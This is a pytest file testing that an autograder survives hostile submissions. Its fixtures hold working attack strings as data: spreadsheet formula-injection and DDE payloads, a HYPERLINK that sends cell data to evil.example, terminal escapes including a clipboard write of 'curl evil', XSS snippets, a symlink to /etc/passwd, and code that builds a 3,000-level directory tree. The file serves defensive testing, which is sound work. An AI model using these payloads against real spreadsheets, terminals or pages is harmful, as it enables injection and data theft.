"""Hostile names, trees and files (issue 11, parts 3-5): whatever a submission is called and
whatever it holds, every submission gets a results file, the batch goes on, the gradebook has no
cell a spreadsheet would run, and nothing printed holds a raw control character.

The first half checks the pieces directly (fast); the second grades hostile submissions through
the CLI in ONE batch run (a module fixture, marked slow) and one ``--json`` run, and reads what they
wrote, like tests/test_hostile.py does.
"""
from __future__ import annotations

import csv
import inspect
import io
import json
import os
import shutil
from pathlib import Path

import hostile_support as hs
import pytest

from torchdrill import fsutil, safe_text
from torchdrill.state import RunState, assign_names
from torchdrill.submission import display_name, stage

CHAPTER = hs.CHAPTER
CHAPTERS = [CHAPTER]
STUBS = {CHAPTER: {"eval_no_grad", "detach"}}

# A source that Python's parser cannot hold (RecursionError / MemoryError in ast.parse), under 2 MB.
DEEP_SOURCES = {
    "binop": "x = " + "+".join(["1"] * 200_000) + "\n",
    "unary": "x = " + "-" * 200_000 + "1\n",
    "calls": "x = f" + "()" * 200_000 + "\n",
}


def _stage(src: Path, into: Path) -> object:
    into.mkdir(exist_ok=True)
    params = inspect.signature(stage).parameters
    if "stubs_by_chapter" in params:
        return stage(src, into, CHAPTERS, "en", stubs_by_chapter=STUBS)
    from torchdrill.submission import register_stubs

    register_stubs({k: sorted(v) for k, v in STUBS.items()})
    return stage(src, into, CHAPTERS, "en")


def _deep_notebook(depth: int = 50_000) -> bytes:
    return (b'{"cells": [], "metadata": {"x": ' + b"[" * depth + b"]" * depth
            + b'}, "nbformat": 4, "nbformat_minor": 5}')


# ============================================================================ staging (part 5)

def test_hard_linked_chapter_is_refused_like_a_symlink(tmp_path):
    sub = tmp_path / "sub"
    sub.mkdir()
    other = tmp_path / "someone_elses.py"
    shutil.copy(hs.SOLUTION, other)
    os.link(other, sub / f"{CHAPTER}.py")
    staged = _stage(sub, tmp_path / "stage")
    assert staged.files == {}
    assert any("hard link" in n for n in staged.notes), staged.notes


def test_hard_linked_lone_file_is_refused(tmp_path):
    lone = tmp_path / f"{CHAPTER}.py"
    shutil.copy(hs.SOLUTION, lone)
    os.link(lone, tmp_path / "twin.py")
    staged = _stage(lone, tmp_path / "stage")
    assert staged.files == {} and any("hard link" in n for n in staged.notes)


@pytest.mark.parametrize("kind", sorted(DEEP_SOURCES))
def test_lone_file_too_deep_to_parse_is_the_students_error(tmp_path, kind):
    lone = tmp_path / "my_answers.py"            # not named after a chapter: staging parses it
    lone.write_text(DEEP_SOURCES[kind])
    staged = _stage(lone, tmp_path / "stage")
    assert staged.files == {}
    assert any("nested too deeply" in n for n in staged.notes), staged.notes


def test_notebook_too_deep_to_parse_is_the_students_error(tmp_path):
    nb = tmp_path / f"{CHAPTER}.ipynb"
    nb.write_bytes(_deep_notebook())
    staged = _stage(nb, tmp_path / "stage")
    assert staged.files == {}
    assert any(("nested too deeply" in n or "not a valid notebook" in n) for n in staged.notes), staged.notes


def test_notes_about_hostile_file_names_are_printable(tmp_path):
    sub = tmp_path / "sub"
    sub.mkdir()
    for raw in (b"\x1b]0;pwned\x07.py", b"\xff\xfe.ipynb", b"\x1b[2J" + b"x" * 240 + b".py"):
        with open(os.fsencode(sub) + b"/" + raw, "wb") as f:
            f.write(b"{}" if raw.endswith(b".ipynb") else b"x = 1\n")
        os.symlink("/etc/passwd", os.fsencode(sub) + b"/link-" + raw)
    staged = _stage(sub, tmp_path / "stage")
    assert staged.notes
    for note in staged.notes:
        assert not safe_text.has_control(note), repr(note)
        json.dumps(note, ensure_ascii=False).encode("utf-8")


# ============================================================================ output (part 4)

FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"grade")', "@SUM(A1:A9)", "+cmd|' -C calc'!A0",
                 "-2+3+cmd|' -C calc'!A0", "\t=1+1", " =1+1"]
ESCAPES = ["\x1b[2J\x1b[H", "\x1b]0;pwned\x07", "\x1b]52;c;Y3VybCBldmls\x07",
           "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x9b31m", "[link=http://evil.example]x[/link]"]


def _result(name: str, message: str = "", note: str = ""):
    from torchdrill.results import CheckResult, Outcome, SubmissionResult

    checks = (CheckResult(CHAPTER, "detach", "shares memory", Outcome.WRONG, 0.0, 2.0, True, message or "wrong"),
              CheckResult(CHAPTER, "eval_no_grad", "value", Outcome.PASSED, 2.0, 2.0, True, ""))
    return SubmissionResult(submission=name, checks=checks, device="cpu", lang="en", seconds=0.1,
                            notes=(note,) if note else ())


def test_gradebook_csv_has_no_formula_cell():
    from torchdrill.render.gradebook import gradebook_csv

    text = gradebook_csv([_result(n) for n in [*FORMULA_NAMES, "alice"]],
                         [f"{CHAPTER}.eval_no_grad", f"{CHAPTER}.detach"])
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == len(FORMULA_NAMES) + 2
    assert safe_text.formula_cells(rows) == []
    assert sorted(r[0].lstrip("'") for r in rows[1:]) == sorted([*FORMULA_NAMES, "alice"])


@pytest.mark.parametrize("esc", ESCAPES)
def test_terminal_summary_prints_no_control_byte_and_no_markup(esc):
    from rich.console import Console

    from torchdrill.render.terminal import print_summary

    buf = io.StringIO()
    console = Console(file=buf, force_terminal=False, color_system=None, width=120)
    print_summary(_result(f"name{esc}", message=f"got {esc} here", note=f"note {esc}"), console)
    out = buf.getvalue()
    assert not safe_text.has_control(out), repr(out)
    assert "\x1b" not in out and "\x9b" not in out
    if esc.startswith("[link"):
        assert "[link=http://evil.example]" in out        # shown as text, not turned into a hyperlink


def test_report_and_feedback_escape_hostile_names_and_fit_long_ones(tmp_path):
    from torchdrill.render.gradescope import write_results
    from torchdrill.report import write_report

    names = ['<script>alert(1)</script>', "n" * 200 + "\x1b[2J", "=HYPERLINK(x)"]
    for n in names:
        safe = fsutil.safe_file_name(n)
        write_results(_result(safe, message=f"<img src=x onerror=alert(1)> {n}"), tmp_path / f"{safe}.json")
    files = write_report(tmp_path, None, lang="en")
    page = files.html.read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;" in page
    assert len(files.feedback) == 2 * len(names)
    for f in files.feedback:
        if f.suffix == ".html":
            assert "<img src=x" not in f.read_text(encoding="utf-8")
    assert not list(tmp_path.rglob("*.tmp"))


# ============================================================================ names (part 3)

HOSTILE_NAMES = [b"\xff\xfe-latin1-\xe9", b"n" * 255, b"\x1b]0;title\x07", b"\x1b[2J\x1b[H", b"tab\tand\nnewline",
                 b"\x1b]52;c;Y3VybCBldmls\x07", b"\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
                 b".hidden", b"\xe2\x80\xaeevil", b"=HYPERLINK(\"http:evil\")", b"@SUM(1+1)", b"+cmd", b"-cmd"]


@pytest.mark.parametrize("raw", HOSTILE_NAMES)
def test_display_name_is_safe_for_files_terminals_and_the_state(raw):
    name = display_name(Path(os.fsdecode(raw)))
    assert fsutil.is_safe_name(name) and not safe_text.has_control(name)
    assert len((name + ".json").encode()) <= 255 and len(f".{name}.html.abcdefgh.tmp".encode()) <= 255


def test_names_that_sanitise_alike_stay_apart(tmp_path):
    raws = [b"bob\x1b", b"bob\x07", b"bob\xff", b"bob\xfe", b"n" * 255, b"n" * 254 + b"m"]
    paths = []
    for raw in raws:
        p = os.fsencode(tmp_path) + b"/" + raw
        os.mkdir(p)
        paths.append(Path(os.fsdecode(p)))
    named, notes = assign_names(paths)
    names = [n for n, _ in named]
    assert len({n.casefold() for n in names}) == len(raws)
    assert all(fsutil.is_safe_name(n) for n in names)
    assert assign_names(paths) == (named, notes)                      # the same command, the same names
    for note in notes:
        assert not safe_text.has_control(note)


def test_colliding_long_names_get_a_prefix_that_still_fits(tmp_path):
    paths = []
    for parent in (b"p" * 250, b"q" * 250):
        d = os.fsencode(tmp_path) + b"/" + parent
        os.mkdir(d)
        os.mkdir(d + b"/" + b"s" * 255)
        paths.append(Path(os.fsdecode(d + b"/" + b"s" * 255)))
    named, _ = assign_names(paths)
    assert len({n for n, _ in named}) == 2
    assert all(len(n.encode()) <= fsutil.MAX_NAME_BYTES for n, _ in named)


def test_state_stores_paths_that_are_not_utf8_and_results_with_lone_surrogates(tmp_path):
    raw = os.fsencode(tmp_path) + b"/\xff\xfe\x1b[31mstudent"
    os.mkdir(raw)
    with open(raw + f"/{CHAPTER}.py".encode(), "wb") as f:
        f.write(b"x = 1\n")
    path = Path(os.fsdecode(raw))
    with RunState.open(tmp_path / "out") as st:
        (row,), notes = st.register([path])
        assert Path(row.path) == path and Path(row.path).is_dir()          # openable again
        result = {"submission": row.name, "checks": [], "notes": ["caf\udce9 \ud800"]}
        assert st.finish(row.name, row.fingerprint, result, error=False)
        ((name, back, _err),) = st.done_results()
        assert name == row.name and back == result
        (again,), notes = st.register([path])
        assert again.status == "done" and not notes                       # same path, same bytes: nothing to do


# ============================================================================ through the CLI (slow)
# One batch run grades every case below (``--jobs 2``), and one ``--json`` run grades a submission
# whose name and messages hold ESC sequences and whose code writes a 3,000-level tree at run time.

DEEP_TREE_ATTACK = '''

import os as _os


def _deep_tree(levels=3000):
    """A tree deeper than PATH_MAX and Python's recursion limit, in the working folder."""
    try:
        fd = _os.open(".", _os.O_RDONLY)
        for _ in range(levels):
            _os.mkdir("d", dir_fd=fd)
            nxt = _os.open("d", _os.O_RDONLY, dir_fd=fd)
            _os.close(fd)
            fd = nxt
        _os.close(fd)
    except OSError:
        pass


_deep_tree()
'''

ESC_MESSAGE_ATTACK = '''

import sys as _sys

_ESC = "\\x1b]0;pwned\\x07\\x1b[2J\\x1b]52;c;Y3VybCBldmls\\x07\\x1b]8;;http://evil.example\\x1b\\\\x\\x1b]8;;\\x1b\\\\\\x9b31m"


def detach(y):
    print(_ESC, file=_sys.stderr)
    print(_ESC)
    raise ValueError("broken " + _ESC + " caf\\udce9")
'''

# name (bytes) -> (kind, stubs that must score 0, stubs that must keep full points, words in the notes)
HONEST_BOTH = ("eval_no_grad", "detach")
CLI_CASES: dict[bytes, tuple[str, tuple, tuple, tuple]] = {
    b"alice": ("honest", (), HONEST_BOTH, ()),
    b'=HYPERLINK("http:evil.example","grade")': ("honest", (), HONEST_BOTH, ()),
    b"@SUM(1+1)": ("honest", (), HONEST_BOTH, ()),
    b"+cmd|' -C calc'!A0": ("honest", (), HONEST_BOTH, ()),
    b"-cmd": ("honest", (), HONEST_BOTH, ()),
    b"\t=1+1": ("honest", (), HONEST_BOTH, ()),
    b"\x1b[2J\x1b[Hclear": ("honest", (), HONEST_BOTH, ()),
    b"\x1b]0;pwned\x07title": ("honest", (), HONEST_BOTH, ()),
    b"\x1b]52;c;Y3VybCBldmls\x07clip": ("honest", (), HONEST_BOTH, ()),
    b"\x1b]8;;http:evil\x1b\\link\x1b]8;;\x1b\\": ("honest", (), HONEST_BOTH, ()),
    b"\xff\xfe-latin1-caf\xe9": ("honest", (), HONEST_BOTH, ()),
    b"n" * 255: ("honest", (), HONEST_BOTH, ()),
    b"ctl\x07\x08\x7f\xc2\x9b\xe2\x80\xae": ("honest", (), HONEST_BOTH, ()),
    b"bob\x1b": ("honest", (), HONEST_BOTH, ()),
    b"bob\x07": ("honest", (), HONEST_BOTH, ()),
    b"deep_tree_in_folder": ("tree_folder", (), HONEST_BOTH, ()),
    b"deep_tree_at_run_time": ("tree_runtime", (), HONEST_BOTH, ()),
    b"hard_linked": ("hardlink", HONEST_BOTH, (), ("hard link",)),
    b"deep_py_lone": ("deep_py", HONEST_BOTH, (), ("nested too deeply",)),
    b"deep_py_chapter": ("deep_py_chapter", HONEST_BOTH, (), ()),
    b"deep_notebook": ("deep_notebook", HONEST_BOTH, (), ()),
    b"esc_messages": ("esc_messages", ("detach",), ("eval_no_grad",), ()),
}
BATCH_TIMEOUT = 900


def _build_case(root: Path, raw: bytes, kind: str) -> Path:
    dest = os.fsencode(root) + b"/" + raw
    os.mkdir(dest)
    path = Path(os.fsdecode(dest))
    chapter = path / f"{CHAPTER}.py"
    solution = hs.solution_text()
    if kind == "honest":
        chapter.write_text(solution, encoding="utf-8")
    elif kind == "tree_folder":
        chapter.write_text(solution, encoding="utf-8")
        (path / "junk").mkdir()
        from test_fsutil import _deep_tree

        _deep_tree(path / "junk", 3_000)
    elif kind == "tree_runtime":
        chapter.write_text(solution + DEEP_TREE_ATTACK, encoding="utf-8")
    elif kind == "hardlink":
        chapter.write_text(solution, encoding="utf-8")
        (path / "backup").mkdir()
        os.link(chapter, path / "backup" / "copy.txt")
    elif kind == "deep_py":
        (path / "my_answers.py").write_text(solution + DEEP_SOURCES["binop"], encoding="utf-8")
    elif kind == "deep_py_chapter":
        chapter.write_text(solution + DEEP_SOURCES["calls"], encoding="utf-8")
    elif kind == "deep_notebook":
        (path / f"{CHAPTER}.ipynb").write_bytes(_deep_notebook())
    elif kind == "esc_messages":
        chapter.write_text(solution + ESC_MESSAGE_ATTACK, encoding="utf-8")
    else:
        raise KeyError(kind)
    return path


class CliRuns:
    def __init__(self, tmp: Path):
        self.tmp = tmp
        self.subs = tmp / "subs"
        self.subs.mkdir()
        self.out = tmp / "out"
        self.paths = {raw: _build_case(self.subs, raw, kind) for raw, (kind, *_rest) in CLI_CASES.items()}
        named, _ = assign_names(list(self.paths.values()))
        by_path = {p: n for n, p in named}
        self.names = {raw: by_path[os.path.abspath(p)] for raw, p in self.paths.items()}
        # The --json run: an ESC-laden name, ESC in messages, a deep tree written at run time.
        (tmp / "single").mkdir()
        self.single = _build_case(tmp / "single", b"\x1b]0;pwned\x07\x1b[2Jsolo", "esc_messages")
        with open(self.single / f"{CHAPTER}.py", "a", encoding="utf-8") as f:
            f.write(DEEP_TREE_ATTACK)
        self.single_json = tmp / "single.json"
        self.before = self.snapshot()

    def run(self) -> None:
        from concurrent.futures import ThreadPoolExecutor

        common = ["--only", CHAPTER, "--lang", "en", "--device", "cpu", "--course", str(hs.ROOT / "course.yml")]
        batch = ["grade", *[str(p) for p in self.paths.values()], "--out", str(self.out), "--jobs", "2",
                 "--no-progress", *common]
        single = ["grade", str(self.single), "--json", str(self.single_json), *common]
        with ThreadPoolExecutor(2) as pool:
            b = pool.submit(hs.run_cli_raw, batch, self.tmp, BATCH_TIMEOUT)
            s = pool.submit(hs.run_cli_raw, single, self.tmp, BATCH_TIMEOUT)
            self.batch, self.json_run = b.result(), s.result()
        self.after = self.snapshot()

    def snapshot(self) -> dict:
        """The submissions' own files, two levels down (hs.snapshot would recurse into the
        3,000-level tree), and the course files."""
        out = hs.snapshot([hs.SOLUTION, hs.ROOT / "course.yml"])
        for case in [*self.paths.values(), self.single]:
            for d in (case, *[case / e for e in os.listdir(case) if (case / e).is_dir()]):
                for e in sorted(os.listdir(d)):
                    st = os.lstat(d / e)
                    out[os.fsencode(d / e)] = (st.st_mode, st.st_size, st.st_mtime_ns, st.st_nlink)
        return out


@pytest.fixture(scope="module")
def cli_runs(tmp_path_factory):
    r = CliRuns(tmp_path_factory.mktemp("hostile-names"))
    r.run()
    yield r
    for p in [*r.paths.values(), r.single]:
        fsutil.remove_tree(p)


def _rc_doc(run) -> str:
    return f"exit status {run.rc}\n--- stderr:\n{run.stderr[-3000:]}"


@pytest.mark.slow
def test_batch_exits_zero_and_every_submission_has_a_results_file(cli_runs):
    assert cli_runs.batch.rc == 0, _rc_doc(cli_runs.batch)
    written = {p.name[:-5] for p in cli_runs.out.glob("*.json")}
    assert written == set(cli_runs.names.values())
    assert len(set(cli_runs.names.values())) == len(CLI_CASES)          # names that sanitise alike stay apart
    for name in cli_runs.names.values():
        assert fsutil.is_safe_name(name)


@pytest.mark.slow
@pytest.mark.parametrize("raw", list(CLI_CASES), ids=[fsutil.safe_file_name(r)[:40] for r in CLI_CASES])
def test_each_case_scores_within_bounds(cli_runs, raw):
    _kind, zero, full, notes = CLI_CASES[raw]
    g = hs.Graded.load(cli_runs.out / f"{cli_runs.names[raw]}.json")
    assert g.data["extra_data"]["submission"] == cli_runs.names[raw]
    assert not g.data["extra_data"]["grading_failed"], g.data["output"]
    for stub in zero:
        assert g.score(stub) == 0, (stub, g.data["output"])
    for stub in full:
        assert g.score(stub) == pytest.approx(hs.STUBS[stub]), (stub, g.failed_outputs(stub))
    for w in notes:
        assert w in g.data["output"], g.data["output"]
    assert g.data["execution_time"] < 120
    for t in g.data["tests"]:
        assert 0 <= t["score"] <= t["max_score"] and t["output"].strip()


@pytest.mark.slow
def test_gradebook_is_complete_and_holds_no_formula(cli_runs):
    rows = list(csv.reader(io.StringIO((cli_runs.out / "gradebook.csv").read_text(encoding="utf-8"))))
    assert len(rows) == len(CLI_CASES) + 1
    assert {r[0].removeprefix("'") for r in rows[1:]} == set(cli_runs.names.values())
    assert safe_text.formula_cells(rows) == [], safe_text.formula_cells(rows)


@pytest.mark.slow
def test_nothing_printed_holds_a_control_byte(cli_runs):
    for run in (cli_runs.batch, cli_runs.json_run):
        for stream in (run.stdout, run.stderr):
            assert not safe_text.has_control(stream), [m.group(0) for m in
                                                       safe_text._UNSAFE_TERMINAL.finditer(stream)][:10]


@pytest.mark.slow
def test_json_run_with_hostile_name_messages_and_a_deep_tree_writes_its_result(cli_runs):
    run = cli_runs.json_run
    assert run.rc == 0, _rc_doc(run)
    g = hs.Graded.load(cli_runs.single_json)
    assert fsutil.is_safe_name(g.data["extra_data"]["submission"])
    assert g.score("eval_no_grad") == pytest.approx(hs.STUBS["eval_no_grad"]) and g.score("detach") == 0
    assert "broken" in "\n".join(g.failed_outputs("detach"))


@pytest.mark.slow
def test_no_process_left_and_no_file_changed(cli_runs):
    for run in (cli_runs.batch, cli_runs.json_run):
        assert run.leftovers == [], run.leftovers
    changed = {k for k in set(cli_runs.before) | set(cli_runs.after) if cli_runs.before.get(k) != cli_runs.after.get(k)}
    assert not changed, sorted(changed)[:10]
